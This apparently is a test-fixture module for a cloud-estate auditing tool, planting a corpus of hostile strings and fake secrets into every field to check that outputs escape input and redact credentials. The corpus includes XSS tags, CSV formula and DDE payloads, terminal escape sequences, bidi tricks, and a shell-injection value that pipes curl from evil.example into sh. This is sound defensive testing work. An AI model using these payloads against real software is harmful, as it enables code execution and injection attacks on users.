"""The hostile corpus: strings built to break each output, and secrets that must never appear.

Planted by `hostile_estate()` in every field of an estate that reaches an output.
"""

from __future__ import annotations

from auditor.estate.builder import EstateSpec, HostName, Site, Vault, VaultCertificate, Zone
from auditor.estate.builder.spec import DEFAULT_SUBSCRIPTION, Record

RETIRED = "contoso-legacy.net"
SHELL = "X;curl${IFS}evil.example|sh;#"
HOSTILE = (
    '<script>alert(1)</script><img src=x onerror="alert(2)">',      # HTML and script
    '| **bold** [x](javascript:alert(3)) ``` --> d0["pwn"] %%{init}%%',   # Markdown and Mermaid
    '=HYPERLINK("https://evil.example","x")',                         # CSV formulas
    "+1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\x1b[2J\x1b[31mred\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",  # ANSI, OSC 8 hyperlink
    "fine\rFORGED",                                                    # carriage return
    "\u202egnp.exe\u2066x\u2069",                                      # bidi override and isolate
    "<!channel> <!here> <@U123ABC> <at>everyone</at> @channel",       # Slack / Teams mentions
    SHELL, "$(touch /tmp/pwned)`id`'\"", # shell metacharacters
    "nul\x00byte\x9b31m",                                              # NUL, 8-bit CSI
    "A" * 10_240,                                                      # 10 kB
)
# Secret values, each with a marker that must appear in no output, payload or store.
SECRETS = {
    "PG": "host=pg.internal pass=secretpass0004.contoso-legacy.net",
    "UPSTREAM_HDR": "X-Api-Key: secretapikey0005.contoso-legacy.net",
    "AUTH_HEADER": "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJzZWNyZXQwMDA2In0.secretjwt0006sig",
    "Storage": ("DefaultEndpointsProtocol=https;AccountName=legacystore;AccountKey=secretaccountkey0008==;"
                "EndpointSuffix=core.windows.net"),
    "SAS_URL": "https://files.contoso-legacy.net/c?sv=2020-08-04&sig=secretsig0010.contoso-legacy.net",
    "HOOK": "https://svc:secretuserinfo0011@hooks.contoso-legacy.net/x",
    "DB_PASSWORD": "secretpw0013.contoso-legacy.net",
}
CONNECTION_STRINGS = {
    "Db": "Server=tcp:db.contoso-legacy.net,1433;User ID=u;Password=secretpassword0009.contoso-legacy.net;",
}
MARKERS = ("secretpass0004", "secretapikey0005", "eyjhbgcioi", "secretjwt0006", "secretaccountkey0008",
           "secretpassword0009", "secretsig0010", "secretuserinfo0011", "secretpw0013", "secrethook00")
# An X.509 dNSName must be ASCII: the certificate and host-name corpus keeps to ASCII controls and markup.
HOSTILE_NAME = "x\x1b[2J<script>alert(1)</script>\r|$(id)`id`;\x00.contoso-legacy.net"
SITE = "signin"
RG = "rg-web"
CALLBACK = "https://login.contoso-legacy.net/cb"


def _tags(prefix: str) -> dict[str, str]:
    return {f"{prefix}{i}": value for i, value in enumerate(HOSTILE)} | {HOSTILE[0]: "tag-name"}


def hostile_estate(config: str) -> EstateSpec:
    # Setting names carry the corpus; each names a host of the retired domain so it is a dependent.
    # One host each, so each is its own finding and its remove command becomes that finding's remediation.
    settings = {name: f"https://h{i}.{RETIRED}/cb" for i, name in enumerate(HOSTILE)} | {"CALLBACK": CALLBACK} | SECRETS
    site = Site(SITE, resource_group=RG, app_settings=settings, connection_strings=CONNECTION_STRINGS,
                cors=("https://app.contoso-legacy.net",), tags=_tags("site"),
                host_names=(HostName("www.contoso-legacy.net", dns=False), HostName(HOSTILE_NAME, dns=False)))
    cert = VaultCertificate("legacy", names=("legacy.contoso-legacy.net", "www.contoso-legacy.net"),
                            not_after="+5d", tags=_tags("cert"))
    evil = VaultCertificate("evil", names=(HOSTILE_NAME, "evil.contoso-legacy.net"), not_after="+3d",
                            tags=_tags("evil"))
    vault = Vault("kv-legacy", certificates=(cert, evil), tags=_tags("vault"))
    arm_id = f"/subscriptions/{DEFAULT_SUBSCRIPTION}/resourceGroups/rg-data/providers/Microsoft.Cache/redis/cache1"
    redis = {"id": arm_id, "name": "cache1", "type": "Microsoft.Cache/redis", "location": "westeurope",
             "tags": _tags("redis"),
             "properties": {"hostName": "cache.contoso-legacy.net", "notes": list(HOSTILE),
                            "accessKeys": {"primaryKey": "secretpw0013.contoso-legacy.net"}}}
    zone = Zone(RETIRED, records=(Record("old", "CNAME", ("gone.azurewebsites.net",)),))
    return EstateSpec(sites=(site,), vaults=(vault,), zones=(zone,), arm=(redis,), config=config)
